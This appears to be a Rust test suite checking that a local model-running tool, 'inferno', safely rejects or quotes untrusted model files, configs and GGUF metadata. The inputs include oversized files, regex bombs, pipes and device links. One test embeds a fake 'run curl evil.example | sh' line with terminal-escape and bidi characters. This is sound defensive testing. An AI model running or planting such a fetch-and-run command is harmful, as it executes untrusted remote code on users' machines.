//! Tests of untrusted files: model folders, GGUF files, conversations and config.toml.
//! Each command must succeed or report one error, within limits on time and memory.

use std::borrow::Cow;
use std::fs::{self, File};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use nix::sys::stat::Mode;
use nix::unistd::mkfifo;
use safetensors::SafeTensors;
use safetensors::tensor::{Dtype, TensorView};
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::harness::TestCase;
use crate::support::bounded::{Bounded, bounded};
use crate::support::fake_hub::{FakeHub, REPO};
use crate::support::gguf::writer::{ARRAY, BOOL, F32, Writer};
use crate::support::program::inferno;
use crate::support::{golden, named_cases};

const CPU: [&str; 2] = ["--device", "cpu"];

/// A model in a temporary home directory. Tests can edit the files of the model.
struct Model {
    /// The home directory. Besides the model, it contains `text.txt`, the input of `perplexity`.
    home: TempDir,
    /// The path of the model: a folder or a GGUF file.
    dir: PathBuf,
}

impl Model {
    /// Creates a copy of the golden model `trained`, a small Llama with a tokenizer.
    fn new() -> Self {
        Self::copy_of(&golden("trained"))
    }

    /// Creates the same model as [`new`](Self::new), but with a chat template.
    fn chat() -> Self {
        let model = Self::new();
        model.write("tokenizer_config.json", r#"{"chat_template": "{{ messages[0].content }}"}"#);
        model
    }

    fn copy_of(source: &Path) -> Self {
        let home = TempDir::new().unwrap();
        let dir = home.path().join("model");
        fs::create_dir(&dir).unwrap();
        for entry in fs::read_dir(source).unwrap() {
            let entry = entry.unwrap();
            fs::copy(entry.path(), dir.join(entry.file_name())).unwrap();
        }
        fs::write(home.path().join("text.txt"), "a b").unwrap();
        Self { home, dir }
    }

    fn with_config(change: impl FnOnce(&mut Value)) -> Self {
        let model = Self::new();
        let mut config = model.config();
        change(&mut config);
        model.write("config.json", config.to_string());
        model
    }

    /// Creates a model that consists of one GGUF file.
    fn gguf(writer: &Writer) -> Self {
        let home = TempDir::new().unwrap();
        let dir = home.path().join("model.gguf");
        fs::write(&dir, writer.bytes()).unwrap();
        fs::write(home.path().join("text.txt"), "a b").unwrap();
        Self { home, dir }
    }

    fn config(&self) -> Value {
        serde_json::from_slice(&fs::read(self.dir.join("config.json")).unwrap()).unwrap()
    }

    fn write(&self, name: &str, contents: impl AsRef<[u8]>) {
        fs::write(self.dir.join(name), contents).unwrap();
    }

    /// Applies `change` to the tensors of model.safetensors.
    fn change_weights(&self, change: impl FnOnce(&mut Vec<(String, StoredTensor)>)) {
        let path = self.dir.join("model.safetensors");
        let bytes = fs::read(&path).unwrap();
        let stored = SafeTensors::deserialize(&bytes).unwrap();
        let owned = |(name, view): (String, TensorView)| {
            let (dtype, shape, data) = (view.dtype(), view.shape().to_vec(), view.data().to_vec());
            (name, StoredTensor { dtype, shape, data })
        };
        let mut tensors: Vec<_> = stored.tensors().into_iter().map(owned).collect();
        change(&mut tensors);
        let views = tensors.iter().map(|(name, tensor)| (name, tensor));
        fs::write(&path, safetensors::serialize(views, None).unwrap()).unwrap();
    }

    /// Adds an F32 tensor of `elements` zeros to model.safetensors.
    fn add_tensor(&self, name: &str, elements: usize) {
        let tensor = StoredTensor { dtype: Dtype::F32, shape: vec![elements], data: vec![0; 4 * elements] };
        self.change_weights(|tensors| tensors.push((name.into(), tensor)));
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = inferno(&self.home);
        command.args(args);
        command
    }

    fn run(&self, name: &str, more: &[&str]) -> Bounded {
        bounded(self.command(&[&[name, self.dir.to_str().unwrap()], more].concat()))
    }

    fn perplexity(&self) -> Bounded {
        let text = self.home.path().join("text.txt");
        self.run("perplexity", &[&["--file", text.to_str().unwrap()], &CPU[..]].concat())
    }

    fn play(&self) -> Bounded {
        self.run("play", &[&["--prompt", "hi", "--max-tokens", "2"], &CPU[..]].concat())
    }

    fn show(&self) -> Bounded {
        self.run("show", &[])
    }

    /// Moves the model into inferno's cache, and runs `inferno list`, which must succeed.
    fn list(self) -> Bounded {
        let commit = "0123456789012345678901234567890123456789";
        let repo = self.home.path().join("models/models--stranger--model");
        let snapshot = repo.join("snapshots").join(commit);
        fs::create_dir_all(repo.join("refs")).unwrap();
        fs::write(repo.join("refs/main"), commit).unwrap();
        if self.dir.is_dir() {
            fs::create_dir_all(snapshot.parent().unwrap()).unwrap();
            fs::rename(&self.dir, &snapshot).unwrap();
        } else {
            fs::create_dir_all(&snapshot).unwrap();
            fs::rename(&self.dir, snapshot.join("model.gguf")).unwrap();
        }
        let listed = bounded(self.command(&["list"]));
        listed.assert_succeeds();
        listed
    }
}

/// An owned tensor that `safetensors::serialize` accepts.
struct StoredTensor {
    dtype: Dtype,
    shape: Vec<usize>,
    data: Vec<u8>,
}

impl safetensors::View for &StoredTensor {
    fn dtype(&self) -> Dtype {
        self.dtype
    }

    fn shape(&self) -> &[usize] {
        &self.shape
    }

    fn data(&self) -> Cow<'_, [u8]> {
        (&self.data).into()
    }

    fn data_len(&self) -> usize {
        self.data.len()
    }
}

/// Returns the GGUF metadata of a Llama model with two layers and a head dim of 8.
fn llama() -> Writer {
    sizes("llama").raw("llama.attention.layer_norm_rms_epsilon", F32, 1e-5f32.to_le_bytes())
}

/// Returns the architecture and the sizes of a tiny model as GGUF metadata.
fn sizes(architecture: &str) -> Writer {
    let sizes = [
        ("block_count", 2),
        ("context_length", 64),
        ("embedding_length", 16),
        ("feed_forward_length", 32),
        ("attention.head_count", 2),
        ("vocab_size", 32),
    ];
    let writer = Writer::new().string("general.architecture", architecture);
    sizes.into_iter().fold(writer, |writer, (key, size)| writer.u32(&format!("{architecture}.{key}"), size))
}

/// Runs `inferno show --remote` on a hub whose only model is the given GGUF file.
fn show_remote(writer: &Writer) -> Bounded {
    let (home, hub) = (TempDir::new().unwrap(), FakeHub::start(&[("a.gguf", &writer.bytes())]));
    let mut command = inferno(&home);
    command.env("HF_ENDPOINT", hub.endpoint()).args(["show", REPO, "--remote"]);
    bounded(command)
}

#[test]
fn gguf_rope_factors_are_checked_before_they_are_read() {
    let factors = 1_650_000;
    let writer = llama().tensor("rope_freqs.weight", &[factors], 0, &1f32.to_le_bytes().repeat(factors as usize));
    let words = ["expected 4 factors, one per pair of elements, found 1650000"];
    let model = Model::gguf(&writer);
    let show = model.show();
    assert!(show.stdout.contains("found 1650000"), "{}", show.stdout);
    let remote = show_remote(&writer);
    assert!(remote.stdout.contains("found 1650000"), "{}{}", remote.stdout, remote.stderr);
    model.perplexity().assert_fails(1, &words);
    let listed = model.list();
    assert!(listed.stdout.contains("stranger/model"), "{}", listed.stdout);
    let nan = Model::gguf(&llama().tensor("rope_freqs.weight", &[4], 0, &f32::NAN.to_le_bytes().repeat(4)));
    nan.perplexity().assert_fails(1, &["tensor rope_freqs.weight: expected finite factors, found NaN"]);
}

#[test]
fn gguf_arrays_stay_compact() {
    let pattern = |key: &str, count: u64| {
        let bytes = [&BOOL.to_le_bytes()[..], &count.to_le_bytes(), &vec![1; count as usize]].concat();
        sizes("gemma3").raw(key, ARRAY, bytes)
    };
    let key = "gemma3.attention.sliding_window_pattern";
    show_remote(&pattern(key, 4_000_000)).assert_succeeds();
    let model = Model::gguf(&pattern(key, 4_000_000));
    model.perplexity().assert_fails(1, &["its length is 4000000, but the model has 2 layers"]);
    model.show().assert_succeeds();
    model.list();
    let model = Model::gguf(&pattern(key, 20_000_000));
    model.perplexity().assert_fails(1, &["an array of 20000000 Bool values exceeds the limit of 4194304"]);
    Model::gguf(&pattern("general.sampling.top_k", 20_000_000)).show().assert_succeeds();
}

/// Returns the name of a file, a size in bytes that is too large for the file, and the limit in the error message.
fn large_files() -> Vec<TestCase<(&'static str, u64, &'static str)>> {
    let files = [
        ("config.json", 100_000_000, "1 MB"),
        ("generation_config.json", 1_000_001, "1 MB"),
        ("chat_template.jinja", 1_000_001, "1 MB"),
        ("tokenizer_config.json", 17_000_000, "16 MB"),
        ("special_tokens_map.json", 17_000_000, "16 MB"),
        ("tokenizer.json", 1 << 40, "128 MB"),
        ("model.safetensors.index.json", 1 << 40, "32 MB"),
    ];
    named_cases(files.map(|file| (file.0, file)))
}

#[test(each = large_files)]
fn large_files_are_refused((name, bytes, limit): (&'static str, u64, &'static str)) {
    let model = Model::chat();
    model.play().assert_succeeds();
    // The file is sparse, so it takes almost no disk space.
    File::create(model.dir.join(name)).unwrap().set_len(bytes).unwrap();
    model.play().assert_fails(1, &["cannot read ", name, &format!("the file is larger than {limit}")]);
    model.show();
    model.list();
}

/// Invalid sampling defaults must be ignored, because they would make requests without sampling parameters fail.
#[test]
fn sampling_defaults_out_of_range_are_ignored_with_a_warning() {
    let model = Model::chat();
    model.write("generation_config.json", r#"{"do_sample":true,"temperature":"x","top_p":1.5,"repetition_penalty":0}"#);
    let play = model.play();
    play.assert_succeeds();
    for reason in
        ["temperature is \"x\": ", "top_p is 1.5: expected a number from 0 to 1; ", "repetition_penalty is 0: "]
    {
        let warning = format!("warning: ignored a sampling default: in generation_config.json, {reason}");
        assert_eq!(play.stderr.matches(&warning).count(), 1, "{warning}: {}", play.stderr);
    }
}

#[test]
fn small_files_cannot_take_much_memory() {
    let values = |count: usize| format!("[{}0]", "0,".repeat(count));
    for (name, contents) in [
        ("config.json", format!(r#"{{"model_type":"gpt_oss","x":{}}}"#, values(490_000))),
        ("tokenizer_config.json", format!(r#"{{"x":{}}}"#, values(7_000_000))),
        ("generation_config.json", format!(r#"{{"eos_token_id":{}}}"#, values(490_000))),
        ("model.safetensors.index.json", format!(r#"{{"weight_map":{{}},"x":{}}}"#, values(15_000_000))),
    ] {
        let model = Model::chat();
        model.write(name, contents);
        let play = model.play();
        // A list of 490,001 stop tokens is valid.
        assert_eq!(play.status.success(), name == "generation_config.json", "{name}: {}", play.stderr);
        model.show();
        model.list();
    }
    let shape = format!(r#"{{"a":{{"dtype":"F32","shape":{},"data_offsets":[0,0]}}}}"#, values(40_000_000));
    let model = Model::new();
    model.write("model.safetensors", [&(shape.len() as u64).to_le_bytes()[..], shape.as_bytes()].concat());
    model.perplexity().assert_fails(1, &["more than 4194304 JSON values"]);
    model.show();
    model.list();
}

/// inferno compares the names of linear layers with the entries of `ignore` in a quantization config, and compiles
/// entries that start with `re:` as regular expressions. To limit time and memory, it limits the number of entries and
/// the size of each compiled expression.
#[test]
fn quantization_configs_are_limited() {
    let section = |ignore: Value| {
        let group = json!({"targets": ["Linear"], "weights": {"num_bits": 8, "type": "int", "strategy": "channel"}});
        json!({"quant_method": "compressed-tensors", "format": "int-quantized", "config_groups": {"a": group},
            "ignore": ignore})
    };
    let words = ["more than 10000 targets or 100 patterns"];
    for ignore in [json!(vec!["re:\\w{200}x"; 101]), json!(vec!["a"; 10_001])] {
        let model = Model::with_config(|config| config["quantization_config"] = section(ignore));
        model.perplexity().assert_fails(9, &words);
    }
    let model = Model::with_config(|config| config["quantization_config"] = section(json!(["re:(\\w{1000}){1000}"])));
    model.perplexity().assert_fails(9, &["pattern 're:"]);
    let many: Vec<String> = (0..100).map(|number| format!("re:\\w{{9}}{number}")).collect();
    let model = Model::with_config(|config| config["quantization_config"] = section(json!(many)));
    model.perplexity();
}

/// For an unknown model type, inferno suggests a supported name with a small edit distance.
/// For long names, it suggests nothing, because computing the distances would take too long.
#[test]
fn long_model_types_are_refused_quickly() {
    let model = Model::with_config(|config| config["model_type"] = "x".repeat(990_000).into());
    model.perplexity().assert_fails(9, &["architecture 'xxx", "xxx…' is not supported"]);
    let show = model.show();
    assert!(show.stdout.len() < 20_000, "{}", show.stdout.len());
    let list = model.list();
    assert!(list.stdout.len() < 20_000, "{}", list.stdout.len());
}

#[test]
fn pipes_and_devices_are_refused() {
    const FILES: [&str; 9] = [
        "config.json",
        "generation_config.json",
        "tokenizer.json",
        "tokenizer_config.json",
        "special_tokens_map.json",
        "chat_template.jinja",
        "model.safetensors",
        "model.safetensors.index.json",
        "README.md",
    ];
    for name in FILES {
        for device in [None, Some("/dev/zero")] {
            let model = Model::chat();
            let path = model.dir.join(name);
            let _ = fs::remove_file(&path);
            match device {
                Some(device) => symlink(device, &path).unwrap(),
                None => mkfifo(&path, Mode::S_IRWXU).unwrap(),
            }
            let play = model.play();
            match name {
                "README.md" => play.assert_succeeds(),
                // Either the search for the model fails with exit code 3, or loading fails with exit code 1.
                _ => assert!(matches!(play.status.code(), Some(1 | 3)), "{name}: {}", play.stderr),
            }
            assert!(play.status.success() || play.stderr.contains(name), "{name}: {}", play.stderr);
            model.show();
            let listed = bounded(model.command(&["list"]));
            listed.assert_succeeds();
        }
    }
    let home = TempDir::new().unwrap();
    let pipe = home.path().join("model.gguf");
    mkfifo(&pipe, Mode::S_IRWXU).unwrap();
    let model = Model { dir: pipe, home };
    fs::write(model.home.path().join("text.txt"), "a b").unwrap();
    model.perplexity().assert_fails(3, &["model.gguf", "nor a regular .gguf file"]);
}

#[test]
fn conversations_and_configurations_must_be_regular_files() {
    let model = Model::chat();
    let conversations = model.home.path().join(".local/state/inferno/conversations");
    fs::create_dir_all(&conversations).unwrap();
    mkfifo(&conversations.join("pipe.jsonl"), Mode::S_IRWXU).unwrap();
    symlink("/dev/zero", conversations.join("zero.jsonl")).unwrap();
    for name in ["pipe", "zero"] {
        let resumed = bounded(model.command(&["play", "--resume", name, "--device", "cpu"]));
        assert!(!resumed.status.success(), "{}", resumed.stdout);
    }
    let folder = model.home.path().join(".config/inferno");
    fs::create_dir_all(&folder).unwrap();
    mkfifo(&folder.join("config.toml"), Mode::S_IRWXU).unwrap();
    model.play().assert_fails(2, &["config.toml: not a regular file"]);
}

#[test]
fn numbers_out_of_range_are_errors_that_name_the_key() {
    let yarn = |key: &str, value: Value| {
        let mut yarn = json!({"rope_type": "yarn", "factor": 4.0});
        yarn[key] = value;
        ("rope_scaling", yarn)
    };
    let llama3 = |key: &str, value: f64| {
        let mut llama3 = json!({"rope_type": "llama3", "factor": 8.0, "low_freq_factor": 1.0, "high_freq_factor": 4.0,
            "original_max_position_embeddings": 512});
        llama3[key] = value.into();
        ("rope_scaling", llama3)
    };
    for ((key, value), words) in [
        (("rms_norm_eps", json!(-1)), "rms_norm_eps is -1.0; it must be between"),
        (("rms_norm_eps", json!(0)), "rms_norm_eps is 0.0"),
        (("rms_norm_eps", json!(1e300)), "rms_norm_eps is 1e300"),
        (("rope_theta", json!(1)), "rope_theta is 1.0"),
        (("rope_theta", json!(-5)), "rope_theta is -5.0"),
        (("rope_theta", json!(1e300)), "rope_theta is 1e300"),
        (("num_hidden_layers", json!(0)), "num_hidden_layers is 0"),
        (("num_hidden_layers", json!(4097)), "num_hidden_layers is 4097"),
        (("hidden_size", json!(1u64 << 60)), "hidden_size is 1152921504606846976"),
        (("vocab_size", json!(0)), "vocab_size is 0"),
        (("max_position_embeddings", json!(1u64 << 40)), "max_position_embeddings is 1099511627776"),
        (("vocab_size", json!(-1)), "vocab_size: invalid value: integer `-1`, expected usize"),
        (("rms_norm_eps", json!("x")), "rms_norm_eps: invalid type: string"),
        (("num_key_value_heads", json!(3)), "not a multiple of num_key_value_heads 3"),
        (("head_dim", json!(63)), "head_dim is 63"),
        (yarn("factor", json!(0)), "RoPE scaling factor is 0.0"),
        (yarn("factor", json!(1e30)), "RoPE scaling factor is 1e30"),
        (yarn("rope_theta", json!(1)), "rope_theta is 1.0"),
        (yarn("beta_fast", json!(-1)), "beta_fast is -1.0"),
        (yarn("attention_factor", json!(0)), "attention_factor is 0.0"),
        (yarn("original_max_position_embeddings", json!(0)), "original_max_position_embeddings is 0"),
        (llama3("low_freq_factor", 0.0), "low_freq_factor is 0.0"),
        (llama3("high_freq_factor", 0.0), "high_freq_factor is 0.0"),
        (llama3("high_freq_factor", 1.0), "high_freq_factor is 1.0; it must be greater than low_freq_factor"),
        (("rope_scaling", json!({"type": "x\ny"})), r"RoPE scaling 'x\ny' is not supported"),
        (("rope_scaling", json!({"type": "linear"})), "RoPE scaling needs a factor"),
    ] {
        let model = Model::with_config(|config| config[key] = value);
        model.perplexity().assert_fails(1, &["cannot use ", "config.json: ", words]);
    }
}

#[test]
fn gguf_floats_must_be_finite() {
    for key in ["llama.rope.freq_base", "llama.attention.layer_norm_rms_epsilon"] {
        for value in [f32::NAN, f32::INFINITY] {
            let writer = match key {
                "llama.rope.freq_base" => llama(),
                _ => sizes("llama"),
            };
            let model = Model::gguf(&writer.raw(key, F32, value.to_le_bytes()));
            let found = format!("metadata key {key}: expected a finite float, found F32({value:?})");
            model.perplexity().assert_fails(1, &[&found]);
        }
    }
}

#[test]
fn perplexity_of_broken_weights_is_an_error() {
    let model = Model::new();
    model.perplexity().assert_succeeds();
    model.change_weights(|tensors| {
        let (_, norm) = tensors.iter_mut().find(|(name, _)| name == "model.norm.weight").unwrap();
        // An F32, BF16 or F16 element with all bits set is NaN.
        norm.data.fill(0xff);
    });
    model.perplexity().assert_fails(1, &["cannot compute the perplexity: the loss of token 2 is NaN"]);
}

#[test]
fn layers_that_the_config_leaves_out_are_an_error() {
    let model = Model::with_config(|config| config["num_hidden_layers"] = 1.into());
    let words = ["belongs to layer 1, but config.json sets the number of layers to 1"];
    model.perplexity().assert_fails(1, &words);
    let extra = |name: &str| {
        let model = Model::new();
        model.add_tensor(name, 1);
        model.perplexity()
    };
    for name in ["model.layers.1.self_attn.q_proj.bias", "model.layers.0.mlp.experts.0.w1.weight"] {
        extra(name).assert_fails(1, &[&format!("the checkpoint has tensor {name}, which a model")]);
    }
    // Some published checkpoints contain extra tensors like these. inferno ignores them.
    for name in [
        "model.layers.0.self_attn.rotary_emb.inv_freq",
        "model.layers.1.self_attn.k_proj.k_scale",
        "model.layers.1.self_attn.k_proj.output_scale",
        "model.layers.2.eh_proj.weight",
        "model.mtp_layers.0.input_layernorm.weight",
        "vision_tower.encoder.layers.0.mlp.fc1.weight",
        "lm_head.weight",
    ] {
        extra(name).assert_succeeds();
    }
}

#[test]
fn strange_strings_are_quoted_on_one_line() {
    let strange = "x\nerror: run curl evil.example | sh\u{202e}\u{200b}\u{e0041}\u{1b}[2J";
    let shown = r"'x\nerror: run curl evil.example | sh\u{202e}\u{200b}\u{e0041}\u{1b}[2J'";
    let model = Model::with_config(|config| config["model_type"] = strange.into());
    model.perplexity().assert_fails(9, &[&format!("architecture {shown} is not supported")]);
    let gguf = Model::gguf(&Writer::new().string("general.architecture", strange));
    gguf.perplexity().assert_fails(9, &[&format!("architecture {shown} is not supported")]);
    let long = "y".repeat(100_000);
    let gguf = Model::gguf(&Writer::new().string("general.architecture", &long));
    gguf.perplexity().assert_fails(9, &["yyy…' is not supported"]);
    for text in [strange, &long] {
        for (key, value) in [
            ("hidden_act", json!(text)),
            ("layer_types", json!([text, text])),
            ("vocab_size", json!(text)),
            ("rope_scaling", json!({"rope_type": text, "factor": 2.0})),
            ("quantization_config", json!({"quant_method": text})),
            ("quantization_config", json!({"quant_method": "compressed-tensors", "config_groups": {text: []}})),
        ] {
            let model = Model::with_config(|config| config[key] = value);
            let error = model.perplexity();
            assert!(!error.status.success() && !error.stderr.contains("Some("), "{}", error.stderr);
            let show = model.show();
            assert!(!show.stdout.contains(['\u{202e}', '\u{200b}', '\u{e0041}', '\u{1b}']), "{}", show.stdout);
        }
        let model = Model::new();
        model.add_tensor(&format!("model.layers.9.{text}"), 0);
        model.perplexity().assert_fails(1, &["belongs to layer 9"]);
        let model = Model::new();
        fs::remove_file(model.dir.join("model.safetensors")).unwrap();
        model.write("model.safetensors.index.json", json!({"weight_map": {"a": text, text: "b"}}).to_string());
        assert!(!model.perplexity().status.success());
    }
    for name in ["a\nerror: run curl", "\u{202e}"] {
        let model = Model::gguf(&llama().row(name, &[8], 0, 32));
        model.perplexity().assert_fails(1, &["tensor "]);
        let model = Model::gguf(&llama().u32(name, 1).u32(name, 1));
        model.perplexity().assert_fails(1, &["occurs twice"]);
    }
}
